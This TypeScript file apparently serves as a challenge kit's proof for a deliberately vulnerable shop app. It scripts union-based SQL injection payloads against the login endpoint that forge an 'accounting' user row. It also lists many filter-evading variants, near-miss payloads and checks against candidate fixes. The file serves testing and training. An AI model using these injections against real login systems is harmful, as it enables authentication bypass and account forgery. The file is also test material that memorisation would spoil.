import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const signIn = (attacker: Attacker, email: string, password = 'x') =>
  attacker.post('/rest/user/login', { email, password })

/** The columns of the table Users, in order. */
const ROW = {
  id: '999',
  username: "''",
  email: "''",
  password: "''",
  role: "'accounting'",
  deluxeToken: "''",
  lastLoginIp: "''",
  profileImage: "''",
  totpSecret: "''",
  isActive: '1',
  createdAt: "'2020'",
  updatedAt: "'2020'",
  deletedAt: 'null',
}

const nameOf = ({ domain }: Attacker) => `acc0unt4nt@${domain}`
/** Builds the row as SQL. @param columns columns that differ from `ROW` */
const row = (attacker: Attacker, columns: Partial<typeof ROW> = {}) =>
  Object.values({ ...ROW, email: `'${nameOf(attacker)}'`, ...columns }).join(',')
const union =
  (columns: (attacker: Attacker) => Partial<typeof ROW> = () => ({})) =>
  (attacker: Attacker) =>
    signIn(attacker, `' union select ${row(attacker, columns(attacker))}--`)

async function register(attacker: Attacker, email: string): Promise<void> {
  await attacker.post('/api/Users', { email, password: 'ripe plums', passwordRepeat: 'ripe plums' })
  await signIn(attacker, email, 'ripe plums')
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // No account has that name. A single quote provokes an error that shows the columns of the statement.
    await register(attacker, nameOf(attacker))
    await signIn(attacker, "'")
    await union()(attacker)
  },
  spellings: {
    'with named columns in a subselect, as write-ups have it': (attacker) =>
      signIn(
        attacker,
        `' UNION SELECT * FROM (SELECT ${Object.entries({
          ...ROW,
          id: '15',
          email: `'${nameOf(attacker)}'`,
          password: "'12345'",
          lastLoginIp: "'1.2.3.4'",
          profileImage: "'default.svg'",
          createdAt: "'1999-08-16 14:14:41.644 +00:00'",
          updatedAt: "'1999-08-16 14:33:41.930 +00:00'",
        })
          .map(([column, value]) => `${value} as '${column}'`)
          .join(', ')})--`,
      ),
    'with all rows, and none in front': (attacker) =>
      signIn(attacker, `nobody' union all select ${row(attacker)} where 1=1--`),
    'with values in place of a selection': (attacker) => signIn(attacker, `' UNION VALUES(${row(attacker)})--`),
    'with a comment that is left open': (attacker) => signIn(attacker, `' union select ${row(attacker)}/*`),
    'with comments for blanks': (attacker) => signIn(attacker, `'/**/union/**/select/**/${row(attacker)}--`),
    'with a semicolon': (attacker) => signIn(attacker, `' union select ${row(attacker)};`),
    'with lines of its own': (attacker) => signIn(attacker, `'\nUNION\n\tSELECT ${row(attacker)} --`),
    'with the e-mail put together': union(({ domain }) => ({ email: `'acc0'||'unt4nt'||char(64)||'${domain}'` })),
    'with the e-mail in capitals': union((attacker) => ({ email: `upper('${nameOf(attacker)}')` })),
    'as another account under a new name': (attacker) =>
      signIn(
        attacker,
        `' union select id,username,'${nameOf(attacker)}',password,'accounting',deluxeToken,lastLoginIp,profileImage,'',1,createdAt,updatedAt,null from Users where id=2--`,
      ),
    'with no second factor at all': union(() => ({ totpSecret: 'null' })),
  },
  nearMisses: {
    'that e-mail, registered': (attacker) => register(attacker, nameOf(attacker)),
    'that e-mail in capitals, registered': (attacker) => register(attacker, nameOf(attacker).toUpperCase()),
    'the accountant whom the shop has': (attacker) => signIn(attacker, `accountant@${attacker.domain}'--`),
    'whoever is first among those in accounting': (attacker) => signIn(attacker, "' or role='accounting'--"),
    'the made-up account, as a customer': union(() => ({ role: "'customer'" })),
    'the made-up account, as the administrator': union(() => ({ role: "'admin'" })),
    'another made-up accountant': union(({ domain }) => ({ email: `'accountant4u@${domain}'` })),
    'the accountant of another shop': union(() => ({ email: "'acc0unt4nt@elsewhere.test'" })),
    'the made-up account, stopped at its second factor': union(() => ({ totpSecret: "'ABCDEFGH'" })),
    'a row with a column too few': (attacker) =>
      signIn(attacker, `' union select ${row(attacker).replace(/,null$/, '')}--`),
  },
  bypasses: {
    'refuse-or': union(),
    'bind-password-only': union(),
  },
})
